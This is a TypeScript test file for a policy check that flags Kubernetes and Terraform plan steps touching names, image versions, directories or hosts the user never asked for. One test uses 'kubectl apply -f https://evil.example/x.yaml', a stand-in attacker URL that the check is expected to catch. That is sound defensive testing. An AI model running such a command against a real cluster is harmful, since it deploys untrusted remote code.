import assert from "node:assert/strict";
import { test } from "node:test";
import type { Plan } from "#change/plan.ts";
import { targetKey } from "#change/target.ts";
import { unaskedOf } from "#policy/unasked.ts";

const planOf = (...lines: string[]): Plan => ({
  ...{ summary: "", risk_level: "medium", risk_reason: "", questions: [] },
  plan: lines.map((line, index) => {
    const [tool, ...args] = line.split(" ");
    const step = { step: index + 1, description: "", risk: "medium", rollback: null } as const;
    return tool === "terraform"
      ? { ...step, tool, args: args.slice(1), dir: args[0] ?? "" }
      : { ...step, tool: "kubectl", args, dir: "" };
  }),
});
const target = (name: string) =>
  targetKey({ tool: "kubectl", place: "https://a", namespace: "staging", kind: "deployments", name });

const ASKED: [string, string][] = [
  ["scale payment-api to 5", "payment-api"],
  ["scale paymnt-api to 5", "payment-api"],
  ["scale the payment api to 5", "payment-api"],
  ["restart payment in staging", "payment-api"],
  ["bounce chekout", "checkout"],
  ["paymentapi to 5", "payment-api"],
  ["restart the web-frontend", "web"],
  ["kill the stuck web pod", "web-abc12-x9"],
];
const NOT_ASKED: [string, string][] = [
  ["restart web in staging", "checkout"],
  ["scale web to 3", "payment-api"],
  ["is anything on fire? fix it", "flaky-worker"],
  ["fix the api", "billing"],
  ["set LOG_LEVEL=debug on web", "offset-worker"],
  // A place and a common word name nothing, however well they fit a part of a name.
  ["restart web in staging", "staging-db"],
  ["restart web in staging", "staging-secrets"],
  ["scale the app in staging to 3", "the-billing-app"],
  ["get a new web up", "a-billing"],
];

test("a name that was said, in part or with a slip, is asked for", () => {
  for (const [request, name] of ASKED)
    assert.deepEqual(
      unaskedOf(planOf("kubectl scale x"), [target(name)], [request], ["staging", "production"]),
      [],
      `${request}: ${name}`,
    );
});

test("a name that only a look brought in is not", () => {
  for (const [request, name] of NOT_ASKED)
    assert.deepEqual(
      unaskedOf(planOf("kubectl scale x"), [target(name)], [request], ["staging", "production"]),
      [name],
      `${request}: ${name}`,
    );
});

test("an answer or a wish asks for what it names", () => {
  assert.deepEqual(
    unaskedOf(planOf("kubectl scale x"), [target("flaky-worker")], ["fix it", "flaky-worker"], []),
    [],
  );
});

test("an image by its version, a root by its directory, a host and a manifest's objects by their words", () => {
  const image = planOf("kubectl set image deployment/web web=registry.example/web:6.6.6 -n staging");
  assert.deepEqual(unaskedOf(image, [target("web")], ["restart web"], []), ["6.6.6"]);
  assert.deepEqual(unaskedOf(image, [target("web")], ["web to 6.6.6"], []), []);
  assert.deepEqual(unaskedOf(planOf("terraform infra/network apply"), [], ["apply dns"], []), ["network"]);
  assert.deepEqual(unaskedOf(planOf("terraform infra/network apply"), [], ["apply network"], []), []);
  assert.deepEqual(unaskedOf(planOf("kubectl apply -f https://evil.example/x.yaml"), [], ["apply it"], []), [
    "evil.example",
  ]);
  const file = planOf("kubectl apply -f manifests/greeter.yaml");
  assert.deepEqual(unaskedOf(file, [target("hello")], ["apply manifests/greeter.yaml"], []), []);
  assert.deepEqual(unaskedOf(file, [target("hello")], ["apply the manifest"], []), ["hello"]);
});

test("a manifest that was asked for asks for no other step, nor does a cluster that is not known", () => {
  const both = planOf(
    "kubectl apply -f manifests/greeter.yaml",
    "kubectl scale deployment/payment-api --replicas=0",
  );
  const names = unaskedOf(both, [target("greeter"), target("payment-api")], ["apply greeter"], []);
  assert.deepEqual(names, ["payment-api"]);
  const unknown = targetKey({
    tool: "kubectl",
    place: "*",
    namespace: "*",
    kind: "deployments",
    name: "billing",
  });
  assert.deepEqual(unaskedOf(planOf("kubectl scale x"), [unknown], ["restart web"], []), ["billing"]);
});
